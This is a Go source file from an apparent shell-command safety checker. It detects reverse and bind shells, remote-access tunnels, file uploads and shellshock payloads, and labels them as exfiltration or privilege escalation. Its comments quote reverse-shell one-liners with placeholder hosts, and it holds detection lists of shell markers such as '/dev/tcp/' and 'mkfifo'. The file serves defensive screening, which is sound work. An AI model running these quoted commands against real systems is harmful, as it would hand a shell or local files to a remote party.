package danger

import (
	"net/netip"
	"path"
	"slices"
	"strings"

	"github.com/permsim/permsim/engine/shell"
)

// Shells handed to another host, and this machine opened to others
// (issue 30: the reverse and bind shells of GTFOBins, remote-access
// tunnels, uploads through programs no rule named).

// netClients are programs that carry a shell's input and output over a
// network connection when piped to one.
var netClients = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true, "telnet": true, "socat": true, "openssl": true, "cryptcat": true}

// remoteAccess flags a program that runs a shell for a network peer, opens
// this machine to remote use (tunnels, VNC, a cluster proxy on every
// address), or sends local files to a host.
func (c *checker) remoteAccess(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	v := c.verbs(args, 3)
	first := wordList(v).at(0)
	switch name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat":
		// "nc -e /bin/sh host port", "ncat -l --sh-exec …": the peer drives a program.
		// One that only prints what it makes ("-c 'echo …; date'") serves nothing.
		if prog, ok := ncServed(args); ok && (printsOnly(prog) || relaysOnly(prog)) { // relaysOnly: round 8
			break
		}
		for _, a := range args {
			if a.Literal && (a.Lit == "-e" || a.Lit == "-c" || a.Lit == "--exec" || a.Lit == "--sh-exec" || a.Lit == "--lua-exec" ||
				strings.HasPrefix(a.Lit, "-e/") || strings.HasPrefix(a.Lit, "--exec=") || strings.HasPrefix(a.Lit, "--sh-exec=")) {
				c.add(NetworkExfiltration)
			}
		}
	case "socat":
		runs, network := false, false
		for _, o := range operands(args) {
			kind, _, _ := strings.Cut(strings.ToUpper(o.Lit), ":")
			switch {
			case kind == "EXEC" || kind == "SYSTEM":
				// socat(1): "EXEC:command-line" and "SYSTEM:shell-command",
				// options after a comma; one that only prints serves nothing.
				_, prog, _ := strings.Cut(o.Lit, ":")
				prog, _, _ = strings.Cut(prog, ",")
				if !o.Literal || !printsOnly(prog) && !relaysOnly(prog) {
					runs = true
				}
			case socatNetwork(kind):
				network = true
			}
		}
		if runs && network {
			c.add(NetworkExfiltration)
		}
	case "code", "code-insiders":
		if first == "tunnel" && !(len(v) > 1 && slices.Contains([]string{"status", "kill", "prune", "user", "unregister", "help"}, v[1])) && !hasLit(args, "--help", "-h") {
			c.add(NetworkExfiltration)
		}
	case "tailscale":
		// "serve" of a local web port stays within the user's tailnet
		// (Tailscale's docs); "funnel" opens it to the internet.
		if ops := operands(args); first == "serve" && len(ops) == 2 && ops[1].Literal && localWebPort(ops[1].Lit) {
			break
		}
		if (first == "funnel" || first == "serve") && !hasLit(args, "off", "reset", "status", "--help") {
			c.add(NetworkExfiltration)
		}
	case "ngrok":
		if slices.Contains([]string{"http", "tcp", "tls", "start"}, first) && !(len(v) > 1 && first != "start" && (localWebPort(v[1]) || c.servesFolderNotRoot(v[1], u.dir))) {
			c.add(NetworkExfiltration)
		}
	case "cloudflared":
		url, named := tunnelURL(args)
		if first == "tunnel" && (named || slices.Contains(v, "run")) && !(named && localWebPort(url)) {
			c.add(NetworkExfiltration)
		}
	case "kubectl", "oc":
		if (first == "proxy" || first == "port-forward") && listensBeyondLocalhost(args) {
			c.add(NetworkExfiltration)
		}
	case "socket":
		// socket(1): "-p PROGRAM" (or -qvp) runs a program for the peer.
		if slices.ContainsFunc(args, func(w shell.Word) bool {
			return w.Literal && len(w.Lit) > 1 && w.Lit[0] == '-' && w.Lit[1] != '-' && strings.HasSuffix(w.Lit, "p")
		}) {
			c.add(NetworkExfiltration)
		}
	case "x11vnc", "x0vncserver", "vncserver", "tightvncserver", "Xvnc":
		if !hasLit(args, "-kill", "--kill", "-list", "--list", "-help", "--help") {
			c.add(NetworkExfiltration)
		}
	case "transfersh", "transfer":
		if len(operands(args)) > 0 {
			c.add(NetworkExfiltration)
		}
	case "picgo", "immich":
		if first == "upload" {
			c.add(NetworkExfiltration)
		}
	case "s3cmd":
		if (first == "put" || first == "sync") && len(v) == 3 && !strings.HasPrefix(v[1], "s3://") && strings.HasPrefix(v[2], "s3://") {
			c.add(NetworkExfiltration)
		}
	case "rclone":
		if slices.Contains([]string{"copy", "sync", "move", "copyto", "moveto"}, first) && len(v) > 2 && !isRemote(v[1]) && isRemote(v[2]) {
			c.add(NetworkExfiltration)
		}
	case "kcat", "kafkacat":
		if hasLit(args, "-P") {
			c.add(NetworkExfiltration)
		}
	case "lp", "lpr":
		// lp(1)'s server is -h (its -H is when to print: hold, resume,
		// hh:mm), lpr(1)'s -H (its -h drops the banner): round 9, tldr.
		if (name == "lp" && hasLit(args, "-h") || name == "lpr" && hasLit(args, "-H")) && len(operands(args)) > 1 {
			c.add(NetworkExfiltration) // a file printed on another host's server
		}
	case "ab":
		if hasLit(args, "-p", "-u") {
			c.add(NetworkExfiltration)
		}
	case "hping3":
		if hasLit(args, "--file", "-E") {
			c.add(NetworkExfiltration)
		}
	case "twurl":
		if hasLit(args, "-f", "--file", "-F") {
			c.add(NetworkExfiltration)
		}
	case "smbclient", "tftp":
		// "smbclient //host/share -c 'put FILE'": the commands it is given.
		for i, a := range args {
			if a.Literal && (a.Lit == "-c" || a.Lit == "--command") && i+1 < len(args) {
				for _, part := range strings.Split(args[i+1].Lit, ";") {
					f := strings.Fields(part)
					switch {
					case len(f) > 0 && (f[0] == "put" || f[0] == "mput"):
						c.add(NetworkExfiltration)
					case len(f) == 3 && f[0] == "get":
						c.written(shell.Resolve(f[2], u.dir, c.home)) // the local copy
					}
				}
			}
		}
	}
}

// socatNetwork reports a socat address type that talks to the network.
func socatNetwork(kind string) bool {
	for _, p := range []string{"TCP", "UDP", "SCTP", "OPENSSL", "SSL", "PROXY", "SOCKS", "DCCP", "UDPLITE"} {
		if strings.HasPrefix(kind, p) {
			return true
		}
	}
	return false
}

// listensBeyondLocalhost reports kubectl proxy or port-forward told to
// listen on an address other than the loopback one.
func listensBeyondLocalhost(args []shell.Word) bool {
	for i, a := range args {
		val := ""
		switch {
		case a.Lit == "--address" && i+1 < len(args):
			val = args[i+1].Lit
		case strings.HasPrefix(a.Lit, "--address="):
			val = strings.TrimPrefix(a.Lit, "--address=")
		default:
			continue
		}
		for _, addr := range strings.Split(val, ",") {
			if addr != "localhost" && addr != "127.0.0.1" && addr != "::1" {
				return true
			}
		}
	}
	return false
}

// shellOverNetwork flags a shell whose input or output goes through a
// network client in the same pipeline ("nc host p </tmp/f | sh >/tmp/f",
// "sh -i 2>&1 | openssl s_client -connect host:p"), and zsh's ztcp with a
// shell in the same script.
func (c *checker) shellOverNetwork(s *shell.Script, units [][]unit) {
	isShell := func(u unit) bool {
		cmd, name, ok := u.program()
		if !ok || !shellNames[name] {
			return false
		}
		for _, a := range cmd.Args {
			if a.Literal && a.Lit == "-i" {
				return true
			}
			if !a.Literal || !strings.HasPrefix(a.Lit, "-") || a.Lit == "-c" {
				return false // a script or a command string: judged on its own
			}
		}
		return true
	}
	isClient := func(u unit) bool {
		cmd, name, ok := u.program()
		if ok && name == "curl" {
			return telnetCurl(cmd)
		}
		if ok && name == "ssh" {
			return sshStdioForward(cmd)
		}
		if !ok || !netClients[name] || connectsToLoopbackOnly(cmd, name) {
			return false // connectsToLoopbackOnly: nothing leaves the machine
		}
		return name != "openssl" || len(cmd.Args) > 0 && (cmd.Args[0].Lit == "s_client" || cmd.Args[0].Lit == "s_server")
	}
	ztcp, shells := false, false
	for i := range s.Commands {
		for _, u := range units[i] {
			_, name, _ := u.program()
			ztcp = ztcp || name == "ztcp"
			shells = shells || isShell(u)
		}
		for j := range s.Commands {
			if i == j || s.Commands[j].Pipeline != s.Commands[i].Pipeline {
				continue
			}
			if anyUnit(units[i], isShell) && anyUnit(units[j], isClient) {
				c.add(NetworkExfiltration)
			}
		}
	}
	if ztcp && shells {
		c.add(NetworkExfiltration)
	}
}

// otherShells are shells whose -c script engine/shell does not unwrap
// (csh, tcsh, fish, ash, mksh, yash): their -c text is parsed as a POSIX
// script, which their simple commands and redirects read the same.
var otherShells = map[string]bool{"csh": true, "tcsh": true, "fish": true, "ash": true, "mksh": true, "yash": true, "posh": true}

// otherShellScript returns the -c script of such a shell.
func otherShellScript(cmd *shell.Command) (string, bool) {
	if !otherShells[path.Base(cmd.Name)] {
		return "", false
	}
	for i, a := range cmd.Args {
		if a.Literal && a.Lit == "-c" && i+1 < len(cmd.Args) && cmd.Args[i+1].Literal {
			return cmd.Args[i+1].Lit, true
		}
	}
	return "", false
}

// execOpts hand a program a command to run for whoever connects
// ("-e /bin/sh", "-ie CMD", "--exec", "--sh-exec").
var execOpts = map[string]bool{"e": true, "ie": true, "exec": true, "sh-exec": true, "execute": true, "cmd-exec": true}

// peerShell flags any program that runs a shell for a network peer: an
// exec option whose command is a shell, with a listening flag or verb or
// a port to connect to. nc and socat have their own rules; this is the
// same mechanism for the long tail of their clones (rcat, pwncat,
// gsocket, …), which no list of names keeps up with.
func (c *checker) peerShell(u unit) {
	cmd, name, ok := u.program()
	if !ok || netClients[name] || interpreters[name] || shellNames[name] || name == "find" || name == "xargs" || configKeyLine(name, cmd.Args) {
		return
	}
	args := cmd.Args
	shellRun, listens, port := false, false, false
	for i, a := range args {
		if !a.Literal {
			continue
		}
		l := a.Lit
		switch {
		case l == "l" && i == 0, l == "listen", l == "--listen", l == "-l":
			listens = true
		case len(l) > 1 && l[0] == '-' && l[1] != '-' && strings.Contains(l, "l") && strings.Trim(l[1:], "lvnpk") == "":
			listens = true // "-lp", "-lvnp"
		case isPort(l):
			port = true
		case l == "-s" && name == "gs-netcat":
			port = true // gs-netcat(1) -s: the secret that names a relay's channel, the peer's way in
		}
		opt, val, eq := strings.Cut(strings.TrimLeft(l, "-"), "=")
		if !strings.HasPrefix(l, "-") || !execOpts[opt] {
			continue
		}
		if !eq && i+1 < len(args) && args[i+1].Literal {
			val = args[i+1].Lit
		}
		for _, f := range strings.Fields(val) {
			if (shellProgram(f) || fileServerProgram(f)) && !strings.Contains(f, "=") { // "SHELL=/bin/bash" is a setting
				shellRun = true
			}
		}
	}
	if shellRun && (listens || port) {
		c.add(NetworkExfiltration)
	}
}

// isPort reports a TCP or UDP port number.
func isPort(s string) bool {
	if s == "" || len(s) > 5 || strings.Trim(s, "0123456789") != "" {
		return false
	}
	n := 0
	for _, ch := range s {
		n = n*10 + int(ch-'0')
	}
	return n > 0 && n < 65536
}

// fileServers serve a folder's files over HTTP: the folder is an
// operand or the value of one of rootOpts, else the folder they start in.
var fileServers = map[string]bool{
	"http-server": true, "serve": true, "miniserve": true, "darkhttpd": true, "webfsd": true, "httpd": true,
	"static-web-server": true, "simple-http-server": true, "updog": true,
}

// rootOpts name the folder a file server serves.
var rootOpts = map[string]bool{"--directory": true, "-d": true, "-t": true, "-h": true, "--root": true, "-r": true, "--dir": true}

// servesRoot flags a static file server whose folder is the root or the
// home folder: the README's rule ("serving the project folder is not
// [exfiltration], serving / is"). python -m http.server, php -S, ruby's
// httpd and the stand-alone servers are read alike.
func (c *checker) servesRoot(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	server := fileServers[name] || name == "busybox" && firstVerbIn(args, "httpd")
	switch langOf(name) {
	case "python":
		server = hasRun(litWords(args), "-m", "http.server") || hasRun(litWords(args), "-m", "SimpleHTTPServer")
	case "php":
		server = hasLit(args, "-S")
	case "ruby":
		server = slices.ContainsFunc(args, func(w shell.Word) bool { return strings.Contains(w.Lit, "httpd") })
	}
	if !server || hasLit(args, "--help", "--version") { // -h is busybox httpd's folder
		return
	}
	root := u.dir
	for i, a := range args {
		if !a.Literal || i+1 >= len(args) {
			continue
		}
		if o, v, eq := strings.Cut(a.Lit, "="); eq && rootOpts[o] {
			root = shell.Resolve(v, u.dir, c.home)
		} else if p, ok := shell.PathOf(args[i+1]); ok && rootOpts[a.Lit] && !(name == "busybox" && a.Lit == "-d") {
			root = shell.Resolve(p, u.dir, c.home) // "$HOME" as bash expands it
		}
	}
	if fileServers[name] {
		for _, o := range operands(args) {
			if p, ok := shell.PathOf(o); ok && !isPort(o.Lit) && !strings.Contains(o.Lit, ":") {
				root = shell.Resolve(p, u.dir, c.home)
				break
			}
		}
	}
	// A key folder served hands its keys to whoever connects (round 5).
	if root == "/" || root == path.Clean(c.home) || secretFolder(root, c.home) {
		c.because(name, root)
		c.add(NetworkExfiltration)
	}
}

// litWords returns the words' literal texts.
func litWords(args []shell.Word) []string {
	out := make([]string, 0, len(args))
	for _, a := range args {
		out = append(out, a.Lit)
	}
	return out
}

// tunnelURL returns the value of cloudflared's --url option.
func tunnelURL(args []shell.Word) (string, bool) {
	for i, a := range args {
		if v, ok := strings.CutPrefix(a.Lit, "--url="); ok {
			return v, true
		}
		if a.Lit == "--url" {
			if i+1 < len(args) {
				return args[i+1].Lit, true
			}
			return "", true
		}
	}
	return "", false
}

// shellPorts serve a login, a desktop or a root-equivalent API: a tunnel
// to them opens the machine itself.
var shellPorts = map[string]bool{"22": true, "23": true, "2222": true, "3389": true, "5900": true, "5901": true, "2375": true, "2376": true,
	"6443": true, "10250": true, "512": true, "513": true, "514": true, "5902": true, "5985": true, "5986": true}

// localWebPort reports a tunnel's target that is a web server on this
// machine ("localhost:8080", "http://127.0.0.1:3000", "8080"): the README
// labels such a tunnel everyday, like serving the project; a tunnel to
// ssh, a desktop or the Docker and Kubernetes APIs is not.
func localWebPort(target string) bool {
	scheme, rest, ok := strings.Cut(target, "://")
	if !ok {
		scheme, rest = "", target
	}
	if scheme != "" && scheme != "http" && scheme != "https" {
		return false
	}
	host, port, hasPort := strings.Cut(strings.TrimSuffix(rest, "/"), ":")
	if !hasPort {
		host, port = "localhost", host
	}
	if host != "localhost" && host != "127.0.0.1" && host != "[::1]" && host != "0.0.0.0" {
		return false
	}
	port, _, _ = strings.Cut(port, "/")
	return port != "" && strings.Trim(port, "0123456789") == "" && !shellPorts[port]
}

// requestPayloadOpts are curl's and wget's options whose value goes into
// the request: its body, form fields, headers, user agent, cookies.
var requestPayloadOpts = map[string]bool{
	"-d": true, "--data": true, "--data-raw": true, "--data-binary": true, "--data-urlencode": true, "--json": true,
	"-F": true, "--form": true, "-H": true, "--header": true, "-A": true, "--user-agent": true, "-b": true,
	"--cookie": true, "--post-data": true, "-U": true,
}

// shellPayloadMarks are the words of a reverse shell or a shellshock
// prefix: text that makes the host receiving it run a shell.
var shellPayloadMarks = []string{"/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "mkfifo", "() {"}

// injectedShellSent flags curl or wget sending a request whose data or
// headers carry a shell for the receiving host to run (a command
// injection or shellshock): commands run on another host.
func (c *checker) injectedShellSent(u unit) {
	cmd, name, ok := u.program()
	if !ok || name != "curl" && name != "wget" {
		return
	}
	for i, a := range cmd.Args {
		if !a.Literal {
			continue
		}
		val := ""
		opt, v, eq := strings.Cut(a.Lit, "=")
		switch {
		case eq && strings.HasPrefix(opt, "--") && requestPayloadOpts[opt]:
			val = v
		case requestPayloadOpts[a.Lit] && i+1 < len(cmd.Args) && cmd.Args[i+1].Literal:
			val = cmd.Args[i+1].Lit
		default:
			continue
		}
		if slices.ContainsFunc(shellPayloadMarks, func(m string) bool { return strings.Contains(val, m) }) ||
			strings.Contains(val, "nc ") && strings.Contains(val, " -e ") {
			c.because(name, a.Lit)
			c.add(PrivilegeEscalation)
			return
		}
	}
}

// shellsServed7 flags a shell handed to a network peer by clients the
// netcat rules do not name (rustcat's "connect -s SHELL", gs-netcat's
// "-l -i"), and shellshock prefixes sent to another host by HTTPie, xh
// or nmap's http-shellshock script (a command run there).
func (c *checker) shellsServed7(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	switch name {
	case "rcat", "rustcat":
		if v := c.verbs(args, 1); len(v) == 1 && v[0] == "connect" && hasLit(args, "-s", "--shell") {
			c.because(name, "connect", "-s")
			c.add(NetworkExfiltration)
		}
	case "gs-netcat":
		if hasLit(args, "-l") && hasLit(args, "-i") {
			c.because(name, "-l", "-i")
			c.add(NetworkExfiltration)
		}
	case "http", "https", "xh", "xhs":
		// An HTTP client's "Header:value" item that starts with the
		// nameless function of CVE-2014-6271. Through ssh's command the
		// labels disagree (heldout5 n0338 everyday: the own account's
		// restricted login; heldout7 s0087 privilege-escalation): left.
		for _, a := range args {
			_, val, _ := strings.Cut(a.Lit, ":")
			if a.Literal && strings.HasPrefix(strings.TrimSpace(val), "() {") {
				c.because(name, a.Lit)
				c.add(PrivilegeEscalation)
				return
			}
		}
	case "nmap":
		for i, a := range args {
			if a.Literal && a.Lit == "--script-args" && i+1 < len(args) && strings.Contains(args[i+1].Lit, "cmd=") &&
				slices.ContainsFunc(args, func(w shell.Word) bool { return strings.Contains(w.Lit, "shellshock") }) {
				c.because(name, "http-shellshock", args[i+1].Lit)
				c.add(PrivilegeEscalation)
				return
			}
		}
	}
}

// telnetCurl reports a curl of a telnet:// URL (curl(1)'s TELNET
// protocol): a raw connection that carries what a peer types, as nc's,
// not a download.
func telnetCurl(cmd *shell.Command) bool {
	return !cmd.Dynamic && path.Base(cmd.Name) == "curl" &&
		slices.ContainsFunc(cmd.Args, func(a shell.Word) bool { return a.Literal && strings.HasPrefix(a.Lit, "telnet://") })
}

// websocatShell: websocat's exec:, sh-c: and cmd: specifiers run a
// program for each peer of the other specifier (its README); a shell
// there is driven by the peer (README's dev4 call: a shell served is
// network-exfiltration).
func (c *checker) websocatShell(u unit) {
	cmd, name, ok := u.program()
	if !ok || name != "websocat" {
		return
	}
	for _, a := range cmd.Args {
		spec, prog, found := strings.Cut(a.Lit, ":")
		if !a.Literal || !found || spec != "exec" && spec != "sh-c" && spec != "cmd" {
			continue
		}
		if f := strings.Fields(prog); len(f) > 0 && shellProgram(f[0]) {
			c.because(name, a.Lit)
			c.add(NetworkExfiltration)
			return
		}
	}
}

// fileServerProgram reports OpenSSH's sftp-server(8), wherever it is
// installed (/usr/lib/openssh, /usr/libexec, /usr/lib/ssh): run for a
// network peer, it gives the peer the file system to read and write as
// a shell would (heldout11's "gs-netcat -l -e /usr/lib/sftp-server").
func fileServerProgram(w string) bool {
	return w[strings.LastIndexAny(w, "/\\")+1:] == "sftp-server"
}

// sshStdioForward reports ssh -W HOST:PORT (ssh(1): standard input and
// output forwarded to HOST on PORT over the secure channel): in a
// shell's pipeline it is the network client of "sh -i | nc HOST PORT"
// (heldout11's "bash -i </tmp/.p | ssh … -W HOST:PORT … >/tmp/.p").
func sshStdioForward(cmd *shell.Command) bool {
	for _, a := range cmd.Args {
		if a.Lit == "-W" || len(a.Lit) > 2 && strings.HasPrefix(a.Lit, "-W") && strings.Contains(a.Lit, ":") {
			return true
		}
	}
	return false
}

// configServer returns the configuration file a web server is started
// with: nginx(8) -c FILE, lighttpd(8) -f FILE, Apache's httpd|apache2 -f
// FILE, caddy run|start --config FILE. A configuration test (nginx -t|-T,
// lighttpd -t|-tt, apache -t) starts nothing.
func configServer(cmd *shell.Command, name string) (string, bool) {
	args := cmd.Args
	opt := ""
	switch name {
	case "nginx", "openresty":
		opt = "-c"
	case "lighttpd", "httpd", "apache2":
		opt = "-f"
	case "caddy":
		if !firstVerbIn(args, "run", "start") {
			return "", false
		}
		opt = "--config"
	default:
		return "", false
	}
	if hasLit(args, "-t", "-T", "-tt") {
		return "", false
	}
	for i, a := range args {
		if a.Lit == opt && i+1 < len(args) && args[i+1].Literal {
			return args[i+1].Lit, true
		}
	}
	return "", false
}

// servesRoot reports a server configuration whose document root is "/":
// nginx's root or alias, lighttpd's server.document-root, Apache's
// DocumentRoot, Caddy's root [*], each read as a statement between
// semicolons, braces and line ends.
func servesRoot(text string) bool {
	for _, st := range strings.FieldsFunc(text, func(r rune) bool { return r == ';' || r == '{' || r == '}' || r == '\n' }) {
		f := strings.Fields(st)
		if len(f) < 2 {
			continue
		}
		switch strings.ToLower(f[0]) {
		case "root", "alias", "documentroot", "server.document-root":
			if strings.Trim(f[len(f)-1], `"'`) == "/" {
				return true
			}
		}
	}
	return false
}

// configServesRoot: a web server started with a configuration written
// earlier on the line (cat > FILE <<EOF, tee FILE <<EOF) that serves the
// file system's root (dev's and heldout's GTFOBins nginx line: "root /;
// autoindex on; dav_methods PUT;"): every file served to whoever
// connects, as "python3 -m http.server -d /": network-exfiltration.
func (c *checker) configServesRoot(u unit) {
	cmd, name, ok := u.program()
	if !ok || c.line == nil || c.at >= len(c.line.Commands) {
		return
	}
	conf, ok := configServer(cmd, name)
	if !ok {
		return
	}
	want := shell.Resolve(conf, u.dir, c.home)
	earlier := c.earlier()
	for k := range earlier {
		w := &earlier[k]
		n := path.Base(w.Name)
		text, ok := literalOutput(w, n)
		targets := []string{}
		if ok {
			for _, r := range w.Redirects {
				if p, ok := shell.PathOf(r.Target); ok && r.Write {
					targets = append(targets, p)
				}
			}
		} else if n == "tee" && w.Stdin != "" {
			text = w.Stdin
			for _, o := range operands(w.Args) {
				if p, ok := shell.PathOf(o); ok {
					targets = append(targets, p)
				}
			}
		}
		for _, t := range targets {
			if shell.Resolve(t, u.dir, c.home) == want && servesRoot(text) {
				c.because(name, conf)
				c.add(NetworkExfiltration)
				return
			}
		}
	}
}

func init() {
	addRuleTexts(map[string]string{
		"shellsServed7":    "a shell handed to a network peer by rustcat (connect -s) or gs-netcat (-l -i), or a shellshock prefix (() {) sent to another host in an HTTPie/xh header or nmap's http-shellshock cmd argument",
		"websocatShell":    "websocat running a shell for each peer (exec:, sh-c: or cmd: given sh, bash, …): a shell served over the network",
		"configServesRoot": "a web server (nginx -c, lighttpd -f, apache2|httpd -f, caddy run --config) started with a configuration written earlier on the line whose document root is /: every file served",
	})
}

// printOnlyPrograms read neither their input nor a file: what they print
// is text of the line or what they make (the date, the uptime, the
// kernel's name).
var printOnlyPrograms = map[string]bool{"echo": true, "printf": true, "date": true, "uptime": true, "uname": true, "true": true, "sleep": true}

// printsOnly reports whether script, run for a network peer (nc -c, socat
// SYSTEM:), only prints what its programs make: every command a
// print-only program with no redirection, no printed variable (one may
// hold a secret) and no date -s (which sets the clock).
func printsOnly(script string) bool {
	s := shell.Parse(script)
	if s.Unparseable || len(s.Commands) == 0 {
		return false
	}
	for _, c := range s.Commands {
		name := path.Base(c.Name)
		if c.Dynamic || !printOnlyPrograms[name] || len(c.Redirects) > 0 || c.Inner() != nil {
			return false
		}
		for _, a := range c.Args {
			if name == "date" && a.Literal && (strings.HasPrefix(a.Lit, "-s") || strings.HasPrefix(a.Lit, "--set")) {
				return false
			}
			if !a.Literal {
				if names, ok := shell.ShownVars(a.Raw); !ok || len(names) > 0 {
					return false
				}
			}
		}
	}
	return true
}

// ncServed returns the program or shell command a netcat runs for its peer
// (-e PROG, -ePROG, -c CMD, --exec[=]PROG, --sh-exec[=]CMD) and whether it
// is literal; --lua-exec's script is not on the line.
func ncServed(args []shell.Word) (string, bool) {
	for i, a := range args {
		if !a.Literal {
			continue
		}
		switch {
		case a.Lit == "-e" || a.Lit == "-c" || a.Lit == "--exec" || a.Lit == "--sh-exec":
			if i+1 < len(args) && args[i+1].Literal {
				return args[i+1].Lit, true
			}
			return "", false
		case strings.HasPrefix(a.Lit, "-e/"):
			return a.Lit[2:], true
		case strings.HasPrefix(a.Lit, "--exec="), strings.HasPrefix(a.Lit, "--sh-exec="):
			_, v, _ := strings.Cut(a.Lit, "=")
			return v, true
		}
	}
	return "", false
}

// socketOnlyOpened reports an "exec" with no command that opens a socket
// on a descriptor of its own (3 and up) in a line that runs nothing else
// (bash(1): exec's redirections take effect in the current shell): no
// command writes to the descriptor, so nothing is sent.
func (c *checker) socketOnlyOpened(u unit, r shell.Redirect) bool {
	if u.cmd.Name != "exec" || len(u.cmd.Args) > 0 || c.line == nil || len(c.line.Commands) != 1 {
		return false
	}
	fd := strings.TrimRight(r.Op, "<>|&")
	n := 0
	for _, d := range fd {
		if d < '0' || d > '9' {
			return false
		}
		n = n*10 + int(d-'0')
	}
	return fd != "" && n >= 3
}

// netcats are the netcat family's programs (nc(1), ncat(1), netcat,
// cryptcat), as remoteAccess names them.
var netcats = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat"}

// relaysOnly reports a command a listener runs for its peer that only
// connects onward: netcat or socat clients with no program of their own
// (no -e, -c, --exec, --sh-exec, --lua-exec; no EXEC: or SYSTEM:) and no
// redirection. The listener and it make a relay, a port forwarded to
// another host (the Ncat Users' Guide's "--sh-exec 'ncat HOST PORT'"),
// which the README labels everyday as a tunnel (round 8).
func relaysOnly(script string) bool {
	s := shell.Parse(script)
	if s.Unparseable || len(s.Commands) == 0 {
		return false
	}
	for i := range s.Commands {
		cmd := &s.Commands[i]
		name := path.Base(cmd.Name)
		if cmd.Dynamic || len(cmd.Redirects) > 0 || cmd.Inner() != nil || !slices.Contains(netcats, name) && name != "socat" {
			return false
		}
		for _, a := range cmd.Args {
			l := strings.ToUpper(a.Lit)
			if !a.Literal || a.Lit == "-e" || a.Lit == "-c" || strings.HasPrefix(a.Lit, "--exec") || strings.HasPrefix(a.Lit, "--sh-exec") ||
				strings.HasPrefix(a.Lit, "--lua-exec") || strings.HasPrefix(a.Lit, "-e/") || strings.HasPrefix(l, "EXEC:") || strings.HasPrefix(l, "SYSTEM:") {
				return false
			}
		}
	}
	return true
}

// relayBackChannel reports that every file command i of s reads is
// written by a redirection of a later command of its pipeline: the FIFO
// of a netcat relay ("nc -l 8080 0<backpipe | nc HOST 80 1>backpipe",
// SANS netcat cheat sheet, "Relays"), which carries what the far peer
// answers, not a file of this machine (round 8).
func relayBackChannel(s *shell.Script, i int) bool {
	cmd := &s.Commands[i]
	if readsDisk(cmd) {
		return false
	}
	read := 0
	for _, f := range cmd.Files() {
		if !f.Read {
			continue
		}
		read++
		fed := false
		for j := i + 1; j < len(s.Commands) && !fed; j++ {
			if s.Commands[j].Pipeline != cmd.Pipeline {
				continue
			}
			for _, g := range s.Commands[j].Files() {
				if g.Write && g.Via == "redirect" && g.Path == f.Path {
					fed = true
					break
				}
			}
		}
		if !fed {
			return false
		}
	}
	return read > 0
}

// configKeyLine reports "KEY = VALUE" typed as a command: a program named
// for a configuration key (fail2ban's actionban, knockd's start_command)
// with "=" as its first argument, whose value is no option of its own
// (round 8; TestPrecisionConfigKeyLines).
func configKeyLine(name string, args []shell.Word) bool {
	if len(args) == 0 || !args[0].Literal || args[0].Lit != "=" || name == "" {
		return false
	}
	for _, r := range name {
		if !(r == '_' || r == '-' || r == '.' || r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
			return false
		}
	}
	return true
}

// loopbackClients are the network clients whose operands are "host port"
// (telnet(1): "telnet [host [port]]"; nc(1): "nc [options] host port").
var loopbackClients = map[string]bool{"telnet": true, "nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true}

// connectsToLoopbackOnly reports a telnet or nc whose every word after its
// options is the loopback ("localhost", 127.0.0.0/8, ::1) or a number (a
// port, a timeout's value), with one loopback host at least: both ends of
// its connection are this machine. A word the line does not spell out, or
// any other word (a host, a proxy's address), may leave it.
func connectsToLoopbackOnly(cmd *shell.Command, name string) bool {
	if !loopbackClients[name] {
		return false
	}
	loopback := false
	for _, a := range cmd.Args {
		switch {
		case !a.Literal:
			return false
		case strings.HasPrefix(a.Lit, "-"):
		case strings.Trim(a.Lit, "0123456789") == "":
		case isLoopbackHost(a.Lit):
			loopback = true
		default:
			return false
		}
	}
	return loopback
}

// isLoopbackHost reports "localhost" (RFC 6761 §6.3) or a loopback address
// (127.0.0.0/8, RFC 6890; ::1, RFC 4291), brackets allowed.
func isLoopbackHost(h string) bool {
	if strings.EqualFold(h, "localhost") {
		return true
	}
	ip, err := netip.ParseAddr(strings.TrimSuffix(strings.TrimPrefix(h, "["), "]"))
	return err == nil && ip.IsLoopback()
}
